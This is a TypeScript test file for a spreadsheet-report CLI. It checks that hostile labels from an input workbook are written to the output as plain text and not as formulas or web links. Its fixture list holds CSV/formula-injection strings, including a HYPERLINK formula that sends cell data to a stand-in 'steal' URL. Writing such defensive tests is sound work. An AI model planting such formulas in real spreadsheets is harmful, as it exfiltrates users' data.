/**
 * Labels from a user's workbook travel into the PIR workbook we write (as
 * table rows and inside finding messages). Whatever they look like, they
 * must arrive as text: never a formula, never a live link.
 */
import ExcelJS from "exceljs";
import { mkdtempSync, readFileSync, writeFileSync } from "fs";
import { tmpdir } from "os";
import { join } from "path";
import { main } from "../../src/cli/commands";

const HOSTILE = [
  "=SUM(B5:B9)",
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  '=HYPERLINK("https://example.invalid/steal?d="&B5,"Click for details")',
];

async function hostileBudget(file: string): Promise<void> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet("Budget");
  ws.addRow(["Financial implementation FY22 (USD)"]);
  ws.addRow(["Component", "Budget", "Expenditure"]);
  // Budget lines without a code (each label one of the hostile strings) sit
  // at the top level, so they appear in the PIR table as rows of their own;
  // a coded output among them lets the table be recognised.
  ws.addRow(["1.1 Output", 50000, 50000.5]);
  HOSTILE.forEach((label, i) => ws.addRow([label, 10000 + i, 5000.25 + i]));
  writeFileSync(file, new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer));
}

describe("strings from the input are written as text, never as formulas", () => {
  it("holds for every cell of both sheets that pir-check tables writes", async () => {
    const dir = mkdtempSync(join(tmpdir(), "pir-injection-"));
    const input = join(dir, "hostile.xlsx");
    const out = join(dir, "pir.xlsx");
    await hostileBudget(input);
    const io = { stdout: { write: () => true }, stderr: { write: () => true } };
    await main(["tables", "--period", "FY22", "--out", out, input], io);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(readFileSync(out) as unknown as ArrayBuffer);
    const seen: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula).toBeUndefined();
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (cell.type === ExcelJS.ValueType.Hyperlink) {
            // Our own links point inside a workbook (file#'Sheet'!A1), never to the web.
            expect(String((cell.value as ExcelJS.CellHyperlinkValue).hyperlink)).not.toMatch(/^https?:/);
          }
          if (typeof cell.value === "string") seen.push(cell.value);
        }),
      ),
    );
    // The hostile labels really were written (so the test would notice a formula).
    for (const label of HOSTILE) expect(seen).toContain(label.trim());
  });
});
